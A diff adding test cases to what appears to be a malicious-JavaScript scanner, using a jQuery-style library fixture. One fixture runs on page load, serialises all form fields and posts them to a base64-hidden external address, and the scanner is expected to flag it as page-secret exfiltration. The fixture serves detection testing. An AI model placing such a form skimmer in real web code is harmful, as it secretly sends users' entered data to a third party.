@@ -228,3 +228,29 @@ module.exports = function plugin() {
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('a DOM library in the jQuery style', () => {
+  const lib = `var J = function (sel) { return new J.fn.init(sel); };
+J.fn = J.prototype = {
+  init: function (sel) { var els = typeof sel === 'string' ? document.querySelectorAll(sel) : [sel]; for (var i = 0; i < els.length; i++) this[i] = els[i]; this.length = els.length; return this; },
+  each: function (fn) { for (var i = 0; i < this.length; i++) fn.call(this[i], i, this[i]); return this; },
+  serialize: function () { var parts = []; this.each(function () { var f = this.elements || [this]; for (var i = 0; i < f.length; i++) parts.push(f[i].name + '=' + f[i].value); }); return parts.join('&'); },
+};
+J.fn.init.prototype = J.fn;
+J.ajax = function (o) { var x = new XMLHttpRequest(); x.open('POST', o.url); x.send(o.data); };`;
+  it("every form's fields serialised through prototype methods and posted to an address in the code", () => {
+    const found = rules({
+      'index.js': `${lib}\ndocument.addEventListener('DOMContentLoaded', function () { J.ajax({ url: atob('aHR0cHM6Ly9zdGF0cy5leGFtcGxlLWNkbi5uZXQvYw=='), data: J('form').serialize() }); });`,
+    });
+    expect(found).toContain('js.page-secret-exfil');
+  });
+  it('quiet: the same library posting a form to the address its caller gives', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `${lib}\nmodule.exports = function submit(url) { J.ajax({ url: url, data: J('form').serialize() }); };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
